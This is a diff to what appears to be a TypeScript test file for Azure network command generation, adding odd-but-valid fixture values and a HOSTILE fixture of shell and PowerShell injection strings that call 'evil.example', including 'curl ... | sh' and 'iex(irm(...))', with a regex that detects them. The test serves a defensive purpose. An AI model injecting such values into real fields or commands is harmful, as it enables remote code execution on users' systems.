@@ -49,6 +49,17 @@ const UNUSUAL: Record<string, FactValue> = {
   'vnet.dnsServers': ['10.0.0.4', '10.0.0.5'],
   'p2s.addressPool': ['172.16.201.0/24', '10.250.0.0/24'],
   'onprem.prefixes': ['192.168.0.0/16', '10.20.0.0/16'],
+  'app.subscriptionId': '8f2e0c4a-1b2c-4d3e-9f00-aa11bb22cc33',
+  'app.vnetSubscriptionId': '0b9d7e6f-5a4b-4c3d-8e2f-112233445566',
+  'peering.remoteSubscriptionId': '0b9d7e6f-5a4b-4c3d-8e2f-112233445566',
+  'vnet.resourceId': '/subscriptions/0b9d7e6f-5a4b-4c3d-8e2f-112233445566/resourceGroups/rg-Müller.Netz/providers/Microsoft.Network/virtualNetworks/vnet_hub.01',
+  'vnet.regionalTargetId': '/subscriptions/0b9d7e6f-5a4b-4c3d-8e2f-112233445566/resourceGroups/rg-net(prod).eu/providers/Microsoft.Network/virtualNetworks/vnet-app.01',
+  'peering.remoteVnetId': '/subscriptions/0b9d7e6f-5a4b-4c3d-8e2f-112233445566/resourceGroups/(rg)remote/providers/Microsoft.Network/virtualNetworks/vnet.spoke_2',
+  'route.tableResourceGroup': 'rg-net(prod).eu',
+  'route.tableName': 'rt.app-subnet_1',
+  'nsg.allowPriority': 109,
+  'p2s.proposedPool': '172.16.202.0/24',
+  'target.ip': '10.1.2.4',
 };
 
 const PAYLOAD = /evil\.example|curl|iex|irm/;
@@ -77,6 +88,17 @@ const HOSTILE: Record<string, FactValue> = {
   'vnet.dnsServers': ["$(iex(irm('http://evil.example/p')))"],
   'p2s.addressPool': ['172.16.201.0/24', '$(curl evil.example)'],
   'onprem.prefixes': ['10.0.0.0/8;curl evil.example'],
+  'app.subscriptionId': '$(curl evil.example)',
+  'app.vnetSubscriptionId': "0b9d7e6f'; curl evil.example; '",
+  'peering.remoteSubscriptionId': '`curl evil.example`',
+  'vnet.resourceId': '/subscriptions/x/resourceGroups/rg$(curl evil.example)/providers/Microsoft.Network/virtualNetworks/v',
+  'vnet.regionalTargetId': '/subscriptions/x\ncurl evil.example',
+  'peering.remoteVnetId': "/subscriptions/x/resourceGroups/rg'|curl evil.example|'/providers/Microsoft.Network/virtualNetworks/v",
+  'route.tableResourceGroup': 'rg;curl evil.example',
+  'route.tableName': 'rt\ncurl -s http://evil.example/x | sh',
+  'nsg.allowPriority': '100; curl evil.example',
+  'p2s.proposedPool': '$(curl evil.example)',
+  'target.ip': '10.1.2.4 & curl evil.example',
 };
 
 const lookupIn = (values: Record<string, FactValue>) => (key: string): FactValue | undefined =>
